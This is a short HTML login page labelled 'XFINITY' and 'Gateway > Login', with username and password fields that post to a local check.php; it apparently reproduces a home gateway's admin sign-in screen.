<!DOCTYPE html>
<html>
<head><title>XFINITY</title></head>
<body>
<div id="content"><h1>Gateway &gt; Login</h1>
<form action="check.php" method="post" id="pageForm">
<div class="form-row"><label for="username">Username:</label><input type="text" id="username" name="username" class="text" autocomplete="off"></div>
<div class="form-row"><label for="password">Password:</label><input type="password" id="password" name="password" class="text" autocomplete="off"></div>
<div class="form-btn"><input type="submit" class="btn" value="Login"></div>
</form></div>
</body>
</html>
